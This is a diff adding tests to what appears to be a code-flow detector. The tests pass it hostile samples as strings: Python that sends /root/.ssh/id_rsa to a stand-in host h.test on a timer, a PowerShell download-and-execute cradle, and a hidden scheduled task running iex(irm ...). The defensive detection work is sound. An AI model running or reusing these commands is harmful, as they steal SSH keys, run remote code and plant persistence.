@@ -164,3 +164,21 @@ describe('PowerShell', () => {
     expect(dialects).toEqual(['powershell', 'shell']);
   });
 });
+
+describe('what runs later', () => {
+  it('sends what was gathered after it was set up', () => {
+    expect(
+      py(
+        'import threading, requests\nheld = []\ndef send():\n    threading.Timer(60, send).start()\n    requests.post("https://h.test", data="".join(held))\nsend()\nheld.append(open("/root/.ssh/id_rsa").read())',
+      ),
+    ).toContain('content:ssh,file → network body other h.test');
+  });
+  it('in PowerShell, made of text or told to the scheduler', () => {
+    expect(
+      ps("$c = (New-Object Net.WebClient).DownloadString('https://h.test/p')\n[ScriptBlock]::Create($c).Invoke()"),
+    ).toMatch(/net.* → (?:shell|evaluate) code other h\.test/);
+    expect(ps('schtasks /create /tn x /tr "powershell -w hidden -c iex(irm https://h.test/t)" /sc minute')).toMatch(
+      /net.* → (?:shell|evaluate) code other h\.test/,
+    );
+  });
+});
